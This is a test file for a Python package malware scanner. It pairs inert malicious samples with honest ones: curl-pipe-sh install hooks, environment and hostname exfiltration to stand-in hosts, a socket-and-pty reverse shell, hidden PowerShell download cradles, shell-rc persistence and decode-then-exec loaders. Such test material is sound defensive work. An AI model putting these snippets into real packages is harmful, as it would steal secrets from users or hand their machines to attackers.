@@ -1,0 +1,1008 @@
+"""Detection rules that must hold on packages never seen: each behaviour has a malicious and an
+honest sample, small, inert and written for this file (never taken from the corpus)."""
+
+from __future__ import annotations
+
+import textwrap
+
+from pipvet.core.analysis.engine import analyze
+from pipvet.core.analysis.model import Artifact, Finding, Member
+
+FLAGGED = ("suspicious", "malicious")
+
+
+def scan(files: dict[str, str | bytes], name: str = "demo"):
+    members = []
+    for path, content in files.items():
+        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
+        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
+    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))
+
+
+def rules(result, at_least: str = "low") -> set[str]:
+    order = ("info", "low", "medium", "high", "critical")
+    return {f.rule for f in result.findings if order.index(f.severity) >= order.index(at_least)}
+
+
+def worst(result) -> list[Finding]:
+    return [f for f in result.findings if f.severity in ("high", "critical")]
+
+
+# -- setup.py branches only a maintainer runs -------------------------------------------------
+
+
+def test_publish_branch_of_setup_py_is_not_install_time() -> None:
+    src = """
+        import os, sys
+        from setuptools import setup
+        if sys.argv[-1] == "publish":
+            os.system("python setup.py sdist bdist_wheel")
+            os.system("twine upload dist/*")
+            sys.exit()
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert not worst(result)
+
+
+def test_install_branch_of_setup_py_still_runs_at_install() -> None:
+    src = """
+        import os, sys
+        from setuptools import setup
+        if "install" in sys.argv:
+            os.system("curl -s http://198.51.100.7/x | sh")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+# -- data-flow labels ----------------------------------------------------------------------------
+
+
+def test_proxy_settings_from_the_environment_are_not_exfiltration() -> None:
+    src = """
+        import os
+        import requests
+
+        PROXIES = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}
+        CA = os.environ.get("REQUESTS_CA_BUNDLE")
+        r = requests.get(
+            "https://api.example.org/v1/ping", proxies=PROXIES, verify=CA or True,
+            timeout=float(os.getenv("DEMO_TIMEOUT", "5")),
+        )
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.exfiltration" not in rules(result)
+
+
+def test_environment_dump_posted_on_import_is_exfiltration() -> None:
+    src = """
+        import os
+        import requests
+
+        requests.post("https://collect.example.net/e", json=dict(os.environ))
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.exfiltration" in rules(result, "critical")
+    assert result.verdict == "malicious"
+
+
+def test_one_secret_attribute_does_not_taint_the_whole_object() -> None:
+    src = """
+        import os, socket
+        import requests
+
+        class Client:
+            def __init__(self):
+                self.env = os.environ.copy()  # handed to subprocesses later
+                self.host = socket.gethostname()
+                self.base = "https://api.example.org"
+                requests.get(self.base + "/status", headers={"X-Client": "demo"})
+
+        CLIENT = Client()
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/__init__.py": src}))
+
+
+def test_secret_attribute_sent_on_import_is_exfiltration() -> None:
+    src = """
+        import socket, getpass
+        import requests
+
+        class Box:
+            pass
+
+        box = Box()
+        box.who = socket.gethostname() + getpass.getuser()
+        requests.post("https://collect.example.net/b", data=box.who)
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_wallet_words_in_a_path_name_are_not_a_secret() -> None:
+    src = """
+        import requests
+
+        def fetch(private_key_path, mnemonic_length=12):
+            return requests.post("https://signer.example.org/v1",
+                                 json={"path": private_key_path, "n": mnemonic_length})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/client.py": src}))
+
+
+def test_a_wallet_key_sent_away_is_exfiltration() -> None:
+    src = """
+        import requests
+
+        def backup(private_key):
+            requests.post("https://collect.example.net/k", data={"k": private_key})
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")
+
+
+def test_machine_architecture_in_a_download_url_is_not_host_identity() -> None:
+    src = """
+        import platform, urllib.request
+        from setuptools import setup
+
+        url = f"https://downloads.example.org/tool-{platform.system()}-{platform.machine()}.tar.gz"
+        urllib.request.urlretrieve(url, "build/tool.tar.gz")
+        setup(name="demo")
+    """
+    assert "intent.exfiltration" not in rules(scan({"setup.py": src}))
+
+
+def test_hostname_in_a_url_at_install_is_exfiltration() -> None:
+    src = """
+        import socket, urllib.request
+        from setuptools import setup
+
+        urllib.request.urlopen("https://collect.example.net/?h=" + socket.gethostname())
+        setup(name="demo")
+    """
+    assert "intent.exfiltration" in rules(scan({"setup.py": src}), "critical")
+
+
+def test_decoding_a_parameter_is_a_codec_not_a_hidden_payload() -> None:
+    src = """
+        import base64
+
+        def run_snippet(encoded):
+            return eval(base64.b64decode(encoded))
+    """
+    result = scan({"demo/expr.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_decoding_helper_fed_a_blob_on_import_is_decode_execute() -> None:
+    src = """
+        import base64
+
+        def unpack(s):
+            return base64.b64decode(s)
+
+        exec(unpack("cHJpbnQoJ2hlbGxvIGZyb20gYSBoaWRkZW4gcGF5bG9hZCcp"))
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.decode-execute" in rules(result, "critical")
+
+
+def test_pickle_round_trip_of_a_response_is_not_downloaded_code() -> None:
+    src = """
+        import pickle
+        import requests
+
+        def test_response_pickles():
+            r = requests.get("https://httpbin.example.org/get")
+            assert pickle.loads(pickle.dumps(r)).status_code == r.status_code
+    """
+    assert "intent.download-execute" not in rules(scan({"demo/checks.py": src}), "high")
+
+
+def test_pickle_of_downloaded_bytes_on_import_is_download_execute() -> None:
+    src = """
+        import pickle
+        import urllib.request
+
+        pickle.loads(urllib.request.urlopen("https://cdn.example.net/p.bin").read())
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+# -- shell strings: their function decides, and messages are not commands -------------------------
+
+
+def test_a_curl_pipe_sh_hint_in_an_error_message_is_not_run() -> None:
+    src = """
+        import shutil, subprocess
+        from setuptools import setup
+
+        def need_rust():
+            if shutil.which("cargo") is None:
+                raise RuntimeError(
+                    "Rust is needed: curl --proto '=https' -sSf https://sh.rustup.rs | sh"
+                )
+            subprocess.check_call(["cargo", "--version"])
+
+        need_rust()
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_shell_command_run_by_its_function_at_install_is_malicious() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup
+
+        def bootstrap():
+            cmd = ["sh", "-c", "wget -qO- http://198.51.100.7/i | sh"]
+            subprocess.Popen(cmd)
+
+        bootstrap()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_config_tools_are_build_tools() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup, Extension
+
+        flags = subprocess.check_output("gdal-config --cflags", shell=True).split()
+        libs = subprocess.check_output(["mariadb_config", "--libs"]).split()
+        setup(name="demo", ext_modules=[Extension("demo._c", ["c.c"], extra_compile_args=flags)])
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+# -- bidi controls: a trick in Python code, not in tables, prose or JavaScript ---------------------
+
+
+def test_bidi_controls_in_tables_comments_and_javascript_are_not_trojan_source() -> None:
+    table = 'BIDI = {"\u202e": "RLO", "\u2066": "LRI", "\u2069": "PDI"}\n'
+    comment = "# \u05e9\u05dc\u05d5\u05dd \u202b\u05e2\u05d5\u05dc\u05dd\u202c\nX = 1\n"
+    js = 'var s = "\u202eabc\u202c" + x;\n'
+    result = scan({"demo/table.py": table, "demo/he.py": comment, "demo/static/app.js": js})
+    assert "obfuscation.bidi" not in rules(result)
+
+
+def test_bidi_controls_inside_python_strings_are_trojan_source() -> None:
+    src = 'access = "user\u202e \u2066# admin\u2069 \u2066"\nif access != "none":\n    pass\n'
+    assert "obfuscation.bidi" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+# -- imports below their use ---------------------------------------------------------------------
+
+
+def test_imports_below_the_calls_still_name_the_module() -> None:
+    src = """
+        def beacon():
+            requests.post("https://collect.example.net/", data=socket.gethostname())
+
+        beacon()
+        import requests
+        import socket
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_imports_below_the_calls_in_honest_code_stay_quiet() -> None:
+    src = """
+        def version():
+            return json.dumps({"v": "1.0"})
+
+        import json
+    """
+    assert scan({"demo/__init__.py": src}).verdict == "clean"
+
+
+# -- custom ciphers ------------------------------------------------------------------------------
+
+
+def test_xor_deciphered_text_executed_on_import_is_decode_execute() -> None:
+    src = """
+        KEY = 23
+        BLOB = [103, 101, 126, 121, 99, 63, 48, 127, 114, 123, 123, 120, 48, 62]
+
+        code = "".join(chr(b ^ KEY) for b in BLOB)
+        exec(code)
+    """
+    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_substitution_alphabet_then_compile_is_decode_execute() -> None:
+    src = """
+        TABLE = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")
+
+        def load(text):
+            source = ""
+            for ch in text:
+                source += chr(ord(ch) - 1)
+            return source
+
+        exec(compile(load("qsjou)2*").translate(TABLE), "<x>", "exec"))
+    """
+    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_xor_in_honest_code_that_is_never_executed_is_quiet() -> None:
+    src = """
+        def mask(data, key):
+            return bytes(b ^ key[i % 4] for i, b in enumerate(data))
+
+        def caesar(text, n):
+            return "".join(chr((ord(c) - 97 + n) % 26 + 97) for c in text)
+    """
+    assert scan({"demo/util.py": src}).verdict == "clean"
+
+
+# -- helpers defined after their callers ---------------------------------------------------------
+
+
+def test_secrets_from_a_helper_defined_later_are_still_labelled() -> None:
+    src = """
+        import requests
+
+        def send():
+            requests.post("https://collect.example.net/i", json=collect())
+
+        def collect():
+            import getpass, socket
+            return {"u": getpass.getuser(), "h": socket.gethostname()}
+
+        send()
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+# -- command lines that reach the network --------------------------------------------------------
+
+
+def test_dns_lookup_of_the_hostname_on_import_is_exfiltration() -> None:
+    src = """
+        import os, socket
+
+        os.system("nslookup " + socket.gethostname() + ".dns.collector.example.net")
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_curl_run_by_a_function_to_fetch_a_file_is_not_intent() -> None:
+    src = """
+        import subprocess
+
+        def fetch(url, dest):
+            subprocess.run(["curl", "-sSfL", url, "-o", dest], check=True)
+            return dest
+    """
+    result = scan({"demo/fetch.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_pip_install_on_import_is_a_second_stage() -> None:
+    src = """
+        import subprocess, sys
+
+        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "colourful-logs"])
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_pip_install_offered_by_a_command_is_not_flagged() -> None:
+    src = """
+        import subprocess, sys
+
+        def install_extras():
+            subprocess.check_call([sys.executable, "-m", "pip", "install", "demo[all]"])
+    """
+    result = scan({"demo/cli.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_wget_download_then_startfile_is_download_execute() -> None:
+    src = """
+        import os, tempfile
+        import wget
+
+        path = wget.download("https://cdn.example.net/update.bin", tempfile.gettempdir())
+        os.startfile(path)
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_wget_download_of_data_is_not_download_execute() -> None:
+    src = """
+        import wget
+
+        def fetch_model(dest):
+            return wget.download("https://models.example.org/small.onnx", dest)
+    """
+    assert "intent.download-execute" not in rules(scan({"demo/models.py": src}))
+
+
+def test_host_identity_sent_to_a_fixed_host_when_called_is_suspicious() -> None:
+    src = """
+        import getpass, socket
+        import requests
+
+        def report():
+            requests.post("https://stats.collector-host.net/r",
+                          json={"h": socket.gethostname(), "u": getpass.getuser()})
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/stats.py": src}), "high")
+
+
+def test_host_identity_sent_to_a_url_the_user_gives_is_not_flagged() -> None:
+    src = """
+        import socket
+        import requests
+
+        def register(server_url):
+            requests.post(server_url + "/agents", json={"name": socket.gethostname()})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))
+
+
+# -- persistence, dropped scripts and code kept in strings -----------------------------------------
+
+
+def test_copying_into_the_startup_folder_on_import_is_persistence() -> None:
+    src = r"""
+        import os, shutil, sys
+
+        appdata = os.getenv("APPDATA")
+        target = os.path.join(appdata, "Microsoft\\Windows\\Start Menu\\Programs\\Startup")
+        shutil.copy(sys.argv[0], target)
+    """
+    assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_a_cli_adding_completion_to_bashrc_on_request_is_not_flagged() -> None:
+    src = """
+        import os
+
+        def install_completion():
+            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+                rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
+    """
+    result = scan({"demo/cli.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert "intent.persistence" in rules(result)  # worth knowing, at a low weight
+
+
+def test_script_written_then_run_at_install_is_flagged() -> None:
+    src = """
+        import os, subprocess, sys, tempfile
+        from setuptools import setup
+
+        stage = os.path.join(tempfile.gettempdir(), "stage.py")
+        with open(stage, "w") as f:
+            f.write("import urllib.request\\nurllib.request.urlopen('https://c.example.net/x')\\n")
+        subprocess.Popen([sys.executable, stage])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert "intent.write-execute" in rules(result, "high")
+    assert result.verdict in FLAGGED
+
+
+def test_config_written_then_git_run_is_not_write_execute() -> None:
+    src = """
+        import subprocess
+
+        def init_repo(path):
+            with open(path + "/.gitignore", "w") as f:
+                f.write("build/\\ndist/\\n*.egg-info/\\n__pycache__/\\n")
+            subprocess.run(["git", "init", path], check=True)
+    """
+    assert "intent.write-execute" not in rules(scan({"demo/repo.py": src}))
+
+
+def test_literal_code_given_to_exec_is_analysed() -> None:
+    src = """
+        exec("import requests,socket;"
+             "requests.post('https://c.collector-host.net/h', data=socket.gethostname())")
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_literal_compat_code_given_to_exec_stays_quiet() -> None:
+    src = """
+        import sys
+        if sys.version_info < (3,):
+            exec("def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n")
+        else:
+            exec("def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n")
+    """
+    result = scan({"demo/compat.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+# -- roles decided by the package, not by names alone ----------------------------------------------
+
+
+EXFIL_ON_IMPORT = """
+    import socket
+    import requests
+
+    requests.post("https://c.collector-host.net/", data=socket.gethostname())
+"""
+
+
+def test_a_test_named_module_the_package_imports_is_package_code() -> None:
+    files = {
+        "demo/__init__.py": "from . import test_utils\n",
+        "demo/test_utils.py": EXFIL_ON_IMPORT,
+    }
+    assert scan(files).verdict in FLAGGED
+
+
+def test_a_test_module_nothing_imports_stays_a_test() -> None:
+    files = {"demo/__init__.py": "VERSION = '1.0'\n", "demo/test_utils.py": EXFIL_ON_IMPORT}
+    assert scan(files).verdict not in FLAGGED
+
+
+def test_a_file_setup_py_runs_with_the_interpreter_is_install_time_python() -> None:
+    setup = """
+        import subprocess, sys
+        from setuptools import setup
+        subprocess.call([sys.executable, "build_helpers/post_install"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
+    assert "intent.exfiltration" in rules(result, "critical")
+    assert result.verdict == "malicious"
+
+
+def test_a_data_file_setup_py_only_names_is_not_parsed() -> None:
+    setup = """
+        from setuptools import setup
+        setup(name="demo", data_files=[("share", ["build_helpers/post_install"])])
+    """
+    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
+    assert "intent.exfiltration" not in rules(result)
+
+
+# -- data downloaded at install and never run ------------------------------------------------------
+
+
+def test_data_downloaded_at_install_beside_an_unrelated_exec_is_not_malicious() -> None:
+    src = """
+        import urllib.request
+        from setuptools import setup
+
+        about = {}
+        with open("demo/__about__.py") as f:
+            exec(f.read(), about)
+
+        def fetch_font():
+            data = urllib.request.urlopen("https://fonts.example.org/Demo.ttf").read()
+            with open("demo/fonts/Demo.ttf", "wb") as out:
+                out.write(data)
+
+        fetch_font()
+        setup(name="demo", version=about["__version__"])
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict != "malicious", worst(result)
+    assert not [
+        f for f in result.findings if f.rule.startswith("intent.") and f.severity != "medium"
+    ]
+
+
+def test_downloaded_program_written_and_run_at_install_is_malicious() -> None:
+    src = """
+        import os, subprocess, urllib.request
+        from setuptools import setup
+
+        def fetch_tool():
+            data = urllib.request.urlopen("https://cdn.example.net/tool").read()
+            with open("/tmp/tool", "wb") as out:
+                out.write(data)
+            os.chmod("/tmp/tool", 0o755)
+            subprocess.Popen(["/tmp/tool"])
+
+        fetch_tool()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_urlretrieve_then_startfile_on_import_is_malicious() -> None:
+    src = """
+        import os, tempfile
+        from urllib.request import urlretrieve
+
+        def update():
+            path = os.path.join(tempfile.gettempdir(), "upd.bin")
+            urlretrieve("https://cdn.example.net/upd.bin", path)
+            os.startfile(path)
+
+        update()
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.download-execute" in rules(result, "critical")
+
+
+def test_urlretrieve_then_tar_at_install_is_not_download_execute() -> None:
+    src = """
+        import subprocess
+        from urllib.request import urlretrieve
+        from setuptools import setup
+
+        archive = "build/headers.tar.gz"
+        urlretrieve("https://downloads.example.org/headers-1.2.tar.gz", archive)
+        subprocess.check_call(["tar", "xzf", archive, "-C", "build"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict != "malicious", worst(result)
+    assert "intent.download-execute" not in rules(result, "high")
+
+
+def test_host_identity_sent_to_a_url_built_on_a_fixed_host_is_suspicious() -> None:
+    src = """
+        import os, socket
+        from urllib.parse import urlencode
+        import requests
+
+        SERVER = "http://collector-host.net:4242/api/log"
+
+        def notify():
+            query = urlencode({"h": socket.gethostname(), "cwd": os.getcwd()})
+            full = f"{SERVER}?{query}"
+            requests.get(full, timeout=5)
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/notify.py": src}), "high")
+
+
+def test_host_identity_sent_to_a_configured_base_url_is_not_flagged() -> None:
+    src = """
+        import socket
+        import requests
+
+        class Agent:
+            def __init__(self, base_url):
+                self.base_url = base_url
+
+            def register(self):
+                url = f"{self.base_url}/agents"
+                requests.post(url, json={"name": socket.gethostname()})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))
+
+
+# -- reverse shells: socket, descriptors and shell in one place ------------------------------------
+
+
+def test_socket_dup2_and_pty_shell_in_one_function_is_a_reverse_shell() -> None:
+    src = """
+        import os, pty, socket
+
+        def connect_back():
+            s = socket.socket()
+            s.connect(("198.51.100.7", 9001))
+            for fd in (0, 1, 2):
+                os.dup2(s.fileno(), fd)
+            pty.spawn("/bin/bash")
+
+        connect_back()
+    """
+    assert scan({"demo/__init__.py": src}).verdict == "malicious"
+
+
+def test_a_supervisor_redirecting_stdio_to_a_socketpair_is_not_a_reverse_shell() -> None:
+    src = """
+        import os, socket, subprocess
+
+        def start_child(argv):
+            parent, child = socket.socketpair()
+            proc = subprocess.Popen(argv, stdin=child, stdout=child)
+            return parent, proc
+
+        def reopen_std_io(sock):
+            for fd in (0, 1, 2):
+                os.dup2(sock.fileno(), fd)
+    """
+    assert "intent.reverse-shell" not in rules(scan({"demo/supervisor.py": src}))
+
+
+def test_a_tests_folder_module_the_package_imports_counts_in_full() -> None:
+    files = {
+        "demo/__init__.py": "from .tests import helpers\nhelpers.setup_colours()\n",
+        "demo/tests/__init__.py": "",
+        "demo/tests/helpers.py": """
+            import os
+
+            def setup_colours():
+                with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+                    rc.write("curl -s https://cdn.example.net/c | sh\\n")
+        """,
+    }
+    result = scan(files)
+    assert "intent.persistence" in rules(result, "critical")
+    assert result.verdict == "malicious"
+    assert result.package_code == {
+        "demo-1.0/demo/tests/helpers.py",
+        "demo-1.0/demo/tests/__init__.py",
+    }
+
+
+def test_autostart_written_with_a_fetch_and_run_line_is_high_even_on_request() -> None:
+    src = """
+        import os
+
+        def reset():
+            with open(os.path.expanduser("~/.zshrc"), "a") as rc:
+                rc.write("wget -q https://cdn.example.net/p -O /tmp/p && "
+                         "chmod +x /tmp/p && /tmp/p &\\n")
+    """
+    assert "intent.persistence" in rules(scan({"demo/term.py": src}), "high")
+
+
+def test_a_thread_started_on_import_with_another_modules_function_runs_it_on_import() -> None:
+    files = {
+        "demo/__init__.py": """
+            import threading
+            from .agent import install_agent
+
+            threading.Thread(target=install_agent, daemon=False).start()
+        """,
+        "demo/agent.py": """
+            import os, subprocess
+
+            def install_agent():
+                folder = os.path.join(os.path.expanduser("~"), "Library", "LaunchAgents")
+                plist = os.path.join(folder, "com.demo.update.plist")
+                with open(plist, "w") as f:
+                    f.write("<plist><dict><key>RunAtLoad</key><true/></dict></plist>")
+                subprocess.run(["launchctl", "load", plist])
+        """,
+    }
+    result = scan(files)
+    assert "intent.persistence" in rules(result, "critical")
+
+
+def test_a_service_helper_loading_a_launch_agent_on_request_is_not_flagged() -> None:
+    src = """
+        import subprocess
+
+        def enable_service(plist_path):
+            subprocess.run(["launchctl", "load", plist_path], check=True)
+    """
+    result = scan({"demo/service.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_command_handed_to_a_local_runner_at_install_is_malicious() -> None:
+    src = """
+        import os, subprocess
+        from setuptools import setup
+
+        def run(cmd):
+            subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)
+
+        if not os.path.exists("C:/ProgramData/Tool"):
+            print("Installing dependencies, please wait...")
+            run("powershell -w hidden -c iex (iwr https://cdn.example.net/i.ps1)")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_code_kept_in_a_constant_written_by_an_install_hook_and_run_is_malicious() -> None:
+    src = '''
+        import os, subprocess
+        from setuptools import setup
+        from setuptools.command.install import install
+
+        CODE = """
+        import socket, getpass, urllib.request
+        urllib.request.urlopen("https://c.collector-host.net/?u=" + getpass.getuser())
+        """
+
+        class Hook(install):
+            def run(self):
+                install.run(self)
+                file = open("helper.py", "w")
+                file.write(CODE)
+                file.close()
+                subprocess.Popen(["python3", "helper.py"])
+
+        setup(name="demo", cmdclass={"install": Hook})
+    '''
+    result = scan({"setup.py": src})
+    assert "intent.write-execute" in rules(result, "high")
+    assert result.verdict == "malicious"
+
+
+def test_download_and_run_split_over_two_helpers_on_import_is_flagged() -> None:
+    src = """
+        import os, subprocess
+        import requests
+
+        def fetch(url, dest):
+            with open(dest, "wb") as f:
+                f.write(requests.get(url).content)
+
+        def start(path):
+            subprocess.run([path], check=True)
+
+        def boot():
+            target = os.path.join(os.path.expanduser("~"), "svc.bin")
+            fetch("https://cdn.example.net/svc.bin", target)
+            start(target)
+
+        boot()
+    """
+    assert scan({"demo/__init__.py": src}).verdict in FLAGGED
+
+
+def test_download_and_run_helpers_called_only_on_request_are_not_flagged() -> None:
+    src = """
+        import subprocess
+        import requests
+
+        def fetch(url, dest):
+            with open(dest, "wb") as f:
+                f.write(requests.get(url).content)
+
+        def start(path):
+            subprocess.run([path], check=True)
+
+        def upgrade(url, dest):
+            fetch(url, dest)
+            start(dest)
+    """
+    result = scan({"demo/upgrade.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_hidden_powershell_given_as_an_argument_list_on_import_is_malicious() -> None:
+    src = """
+        import subprocess
+
+        def start(command=None):
+            cmd = command if command is not None else "Get-Date"
+            return subprocess.Popen(
+                ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd]
+            )
+
+        _proc = start()
+    """
+    assert scan({"demo/__init__.py": src}).verdict == "malicious"
+
+
+def test_a_visible_powershell_command_run_on_request_is_not_flagged() -> None:
+    src = """
+        import subprocess
+
+        def list_drives():
+            return subprocess.run(
+                ["powershell", "-NoProfile", "-Command", "Get-PSDrive -PSProvider FileSystem"],
+                capture_output=True, text=True,
+            ).stdout
+    """
+    result = scan({"demo/win.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_web_endpoint_running_the_request_as_a_shell_command_is_remote_control() -> None:
+    src = """
+        import subprocess
+        from flask import Flask, request
+
+        app = Flask(__name__)
+
+        @app.route("/x")
+        def run():
+            p = subprocess.Popen(request.args.get("c"), shell=True, stdout=subprocess.PIPE)
+            return p.stdout.read()
+
+        app.run(host="0.0.0.0", port=54689)
+    """
+    assert "intent.reverse-shell" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_a_web_endpoint_using_request_data_for_its_own_work_is_not_flagged() -> None:
+    src = """
+        import subprocess
+        from flask import Flask, request
+
+        app = Flask(__name__)
+
+        @app.route("/version")
+        def version():
+            fmt = request.args.get("format", "short")
+            out = subprocess.run(["git", "describe", "--tags"], capture_output=True, text=True)
+            return {"version": out.stdout.strip(), "format": fmt}
+    """
+    assert "intent.reverse-shell" not in rules(scan({"demo/web.py": src}))
+
+
+def test_a_package_that_looks_up_a_fixed_host_on_import_is_a_beacon() -> None:
+    src = """
+        import socket
+
+        def _check():
+            try:
+                socket.gethostbyname("demo.probe.collector-host.net")
+            except OSError:
+                pass
+
+        _check()
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "indicator.import-beacon" in rules(result, "high")
+    assert result.verdict in FLAGGED
+
+
+def test_a_package_whose_client_contacts_its_service_when_asked_is_not_a_beacon() -> None:
+    src = """
+        import requests
+
+        API = "https://api.service-host.net/v1"
+
+        def status():
+            return requests.get(API + "/status", timeout=5).json()
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "indicator.import-beacon" not in rules(result)
+    assert result.verdict not in FLAGGED
+
+
+def test_an_rc_file_read_from_a_url_and_an_import_by_name_on_import_are_not_download_execute() -> (
+    None
+):
+    src = """
+        import importlib
+        import urllib.request
+
+        def _open(fname):
+            if fname.startswith("http"):
+                return urllib.request.urlopen(fname)
+            return open(fname)
+
+        def _check_versions():
+            for name in ("numpy", "dateutil"):
+                importlib.import_module(name)
+
+        _check_versions()
+        RC = _open("demorc")
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.download-execute" not in rules(result)
+
+
+def test_hostile_archives_kept_as_test_fixtures_do_not_flag_the_package(tmp_path) -> None:
+    import io
+    import tarfile
+    import zipfile
+
+    from pipvet.core.analysis.archive import read_artifact
+
+    fixture = io.BytesIO()
+    with zipfile.ZipFile(fixture, "w") as z:
+        z.writestr("../escape.txt", "x")
+        z.writestr("/tmp/absolute.txt", "x")
+    files = {
+        "demo-1.0/tests/bad.zip": fixture.getvalue(),
+        "demo-1.0/tests/test_unpack.py": b"def test_refuses_traversal():\n    pass\n",
+        "demo-1.0/setup.py": b"from setuptools import setup\nsetup(name='demo')\n",
+        "demo-1.0/demo/__init__.py": b"",
+    }
+    sdist = tmp_path / "demo-1.0.tar.gz"
+    with tarfile.open(sdist, "w:gz") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    result = analyze(read_artifact(sdist))
+    assert {"archive.path-traversal", "archive.absolute-path"} <= rules(result)
+    assert result.verdict not in FLAGGED
+    assert not result.package_code
